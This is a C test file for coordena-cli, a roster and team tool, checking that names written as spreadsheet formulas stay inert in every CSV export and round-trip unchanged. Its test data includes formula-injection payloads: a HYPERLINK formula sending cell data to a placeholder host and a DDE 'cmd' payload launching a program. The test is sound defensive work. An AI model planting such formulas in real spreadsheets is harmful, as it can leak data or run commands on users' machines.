/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Spreadsheet formula injection, through the real coordena-cli: a roster whose names and team
 * names are formulas is stored as plain text; every CSV the program writes (exports, listings,
 * evaluations, forecasts, comparisons) makes them inert; and the exported roster imports back to
 * exactly the same names. */
#include "config.h"

#include <locale.h>
#include <string.h>
#include <glib/gstdio.h>
#include <sqlite3.h>

#include <coordena/coordena.h>
#include <coordena/csv-writer.h>

#include "test-utils.h"

#define HEADER "competencia;ibge;cnes;ine;tipo_equipe;cns;nome;cbo;carga_horaria;provimento;valor_base;estrato_ied\n"

static const char *const hostile_names[] = {
  "=HYPERLINK(\"http://exemplo.invalid/?\"&A1;\"clique\")",
  "+55 51 99999-0000",
  "-1+2",
  "@SUM(1+1)",
  "=cmd|' /C calc'!A0",
};

static char *tmp_dir;


static void
run_ok (Run *r, const char *db, const char *const *args)
{
  run_cli (r, &(RunOptions) { .db = db }, args);
  if (r->status != 0)
    g_error ("coordena-cli %s: %d\n%s", args[0], r->status, r->err);
}

/* The raw cells of a CSV text (RFC 4180, ';' or ','), quotes removed but nothing else. */
static GPtrArray *
raw_cells (const char *text, char sep)
{
  GPtrArray *cells = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(GString) cell = g_string_new (NULL);
  gboolean quoted = FALSE, had = FALSE;

  for (const char *p = text; *p != '\0'; p++)
    {
      if (quoted)
        {
          if (*p == '"' && p[1] == '"')
            g_string_append_c (cell, *p++);
          else if (*p == '"')
            quoted = FALSE;
          else
            g_string_append_c (cell, *p);
        }
      else if (*p == '"' && cell->len == 0)
        quoted = had = TRUE;
      else if (*p == sep || *p == '\n')
        {
          g_ptr_array_add (cells, g_strdup (cell->str));
          g_string_truncate (cell, 0);
          had = FALSE;
        }
      else if (*p != '\r' || had)
        g_string_append_c (cell, *p);
    }
  if (cell->len > 0)
    g_ptr_array_add (cells, g_strdup (cell->str));
  return cells;
}

/* No cell a spreadsheet would run; and each hostile text, when present, is there inert. */
static void
assert_inert (const char *what, const char *text, char sep, gboolean expect_names)
{
  g_autoptr(GPtrArray) cells = raw_cells (text, sep);
  guint found = 0;

  for (guint i = 0; i < cells->len; i++)
    {
      const char *c = cells->pdata[i];

      if (coordena_csv_is_formula (c))
        g_error ("%s: the cell «%s» would run as a formula", what, c);
      if (c[0] == '\'' && coordena_csv_is_formula (c + 1))
        found++;
    }
  if (expect_names)
    g_assert_cmpuint (found, >=, 2);
}

static char *
names_of (const char *db)
{
  g_autoptr(GString) out = g_string_new (NULL);
  sqlite3 *s = NULL;
  sqlite3_stmt *st = NULL;

  g_assert_cmpint (sqlite3_open_v2 (db, &s, SQLITE_OPEN_READONLY, NULL), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_prepare_v2 (s, "SELECT cns, coalesce (nome, '') FROM profissional ORDER BY cns", -1, &st, NULL), ==, SQLITE_OK);
  while (sqlite3_step (st) == SQLITE_ROW)
    g_string_append_printf (out, "%s|%s\n", sqlite3_column_text (st, 0), sqlite3_column_text (st, 1));
  sqlite3_finalize (st);
  sqlite3_close (s);
  return g_string_free (g_steal_pointer (&out), FALSE);
}

/* The CNES fixture with its first team named as a formula. */
static char *
cnes_with_formula_team (void)
{
  g_autofree char *base = g_test_build_filename (G_TEST_DIST, "fixtures", "cnes", "base", NULL);
  char *dir = g_build_filename (tmp_dir, "base", NULL);
  g_autoptr(GDir) d = g_dir_open (base, 0, NULL);
  const char *name;

  g_assert_cmpint (g_mkdir_with_parents (dir, 0700), ==, 0);
  while ((name = g_dir_read_name (d)) != NULL)
    {
      g_autofree char *from = g_build_filename (base, name, NULL);
      g_autofree char *to = g_build_filename (dir, name, NULL);
      g_autofree char *text = NULL;
      g_autoptr(GString) s = NULL;

      g_assert_true (g_file_get_contents (from, &text, NULL, NULL));
      s = g_string_new (text);
      g_string_replace (s, "\"EAP Restinga\"", "\"=1+1\"", 0);
      g_assert_true (g_file_set_contents (to, s->str, (gssize) s->len, NULL));
    }
  return dir;
}

static void
test_formulas_inert (void)
{
  g_autofree char *db = g_build_filename (tmp_dir, "formulas.db", NULL);
  g_autofree char *db2 = g_build_filename (tmp_dir, "de-volta.db", NULL);
  g_autofree char *csv = g_build_filename (tmp_dir, "equipes.csv", NULL);
  g_autofree char *exported = g_build_filename (tmp_dir, "exportado.csv", NULL);
  g_autofree char *table = g_build_filename (tmp_dir, "tabela.csv", NULL);
  g_autofree char *base = cnes_with_formula_team ();
  g_autofree char *names = NULL;
  g_autofree char *names2 = NULL;
  g_autofree char *text = NULL;
  g_autoptr(GString) roster = g_string_new (HEADER);
  static const char *const cns[] = {
    "700000000000102", "700000000000218", "700000000000307", "700000000000404", "700000000000501",
  };
  static const char *const cbo[] = { "225142", "223565", "322245", "515105", "515105" };
  g_auto(Run) r = { 0 };

  for (guint i = 0; i < G_N_ELEMENTS (hostile_names); i++)
    {
      g_autoptr(GString) cell = g_string_new (NULL);

      coordena_csv_append_cell (cell, hostile_names[i], ';', 0);
      /* Written as a user's spreadsheet would: quoted where needed, not guarded. */
      if (cell->str[0] == '\'' || (cell->str[0] == '"' && cell->str[1] == '\''))
        g_string_erase (cell, cell->str[0] == '\'' ? 0 : 1, 1);
      /* Another competência than the CNES import's: an import replaces the competências it holds. */
      g_string_append_printf (roster, "202507;4314902;2000016;0001111116;eSF;%s;%s;%s;40;N;;\n", cns[i], cell->str, cbo[i]);
    }
  g_assert_true (g_file_set_contents (csv, roster->str, (gssize) roster->len, NULL));

  run_ok (&r, db, (const char *const[]) { "init", "--uf", "RS", NULL }); run_clear (&r);
  run_ok (&r, db, (const char *const[]) { "import", "cnes", base, "--uf", "RS", "--competencia", "202508", NULL }); run_clear (&r);
  run_ok (&r, db, (const char *const[]) { "import", "roster", csv, NULL }); run_clear (&r);

  /* Stored as plain text, exactly as written. */
  names = names_of (db);
  for (guint i = 0; i < G_N_ELEMENTS (hostile_names); i++)
    {
      g_autofree char *row = g_strdup_printf ("%s|%s\n", cns[i], hostile_names[i]);
      g_assert_nonnull (strstr (names, row));
    }

  run_ok (&r, db, (const char *const[]) { "export", "roster", exported, NULL }); run_clear (&r);
  g_assert_true (g_file_get_contents (exported, &text, NULL, NULL));
  assert_inert ("export roster", text, ';', TRUE);
  g_clear_pointer (&text, g_free);

  run_ok (&r, db, (const char *const[]) { "export", "equipes", table, NULL }); run_clear (&r);
  g_assert_true (g_file_get_contents (table, &text, NULL, NULL));
  assert_inert ("export equipes", text, ';', FALSE);
  g_assert_nonnull (strstr (text, "'=1+1"));

  run_ok (&r, db, (const char *const[]) { "teams", "--format", "csv", NULL });
  assert_inert ("teams --format csv", r.out, ';', FALSE);
  g_assert_nonnull (strstr (r.out, "'=1+1"));
  run_clear (&r);

  run_ok (&r, db, (const char *const[]) { "evaluate", "--format", "csv", csv, NULL });
  assert_inert ("evaluate --format csv", r.out, ';', FALSE);
  run_clear (&r);
  run_ok (&r, db, (const char *const[]) { "forecast", "--format", "csv", csv, NULL });
  assert_inert ("forecast --format csv", r.out, ';', FALSE);
  run_clear (&r);
  run_ok (&r, db, (const char *const[]) { "compare", "--rules", "cofin-2024", "--rules", "portaria-7799-2025", "--format", "csv", csv, NULL });
  assert_inert ("compare --format csv", r.out, ';', FALSE);
  run_clear (&r);

  /* The exported roster comes back with the very same names. */
  run_ok (&r, db2, (const char *const[]) { "init", "--uf", "RS", NULL }); run_clear (&r);
  run_ok (&r, db2, (const char *const[]) { "import", "roster", exported, NULL }); run_clear (&r);
  names2 = names_of (db2);
  for (guint i = 0; i < G_N_ELEMENTS (hostile_names); i++)
    {
      g_autofree char *row = g_strdup_printf ("%s|%s\n", cns[i], hostile_names[i]);
      g_assert_nonnull (strstr (names2, row));
    }
}

static void
rm_rf (const char *path)
{
  g_autoptr(GDir) dir = g_dir_open (path, 0, NULL);
  const char *name;

  while (dir != NULL && (name = g_dir_read_name (dir)) != NULL)
    {
      g_autofree char *child = g_build_filename (path, name, NULL);
      rm_rf (child);
    }
  g_remove (path);
}

int
main (int argc, char **argv)
{
  int status;

  setlocale (LC_ALL, "");
  g_test_init (&argc, &argv, NULL);
  g_assert_nonnull (g_getenv ("COORDENA_CLI"));
  tmp_dir = g_dir_make_tmp ("coordena-formula-XXXXXX", NULL);
  g_test_add_func ("/formula-injection/inert-and-round-trip", test_formulas_inert);
  status = g_test_run ();
  rm_rf (tmp_dir);
  g_free (tmp_dir);
  return status;
}
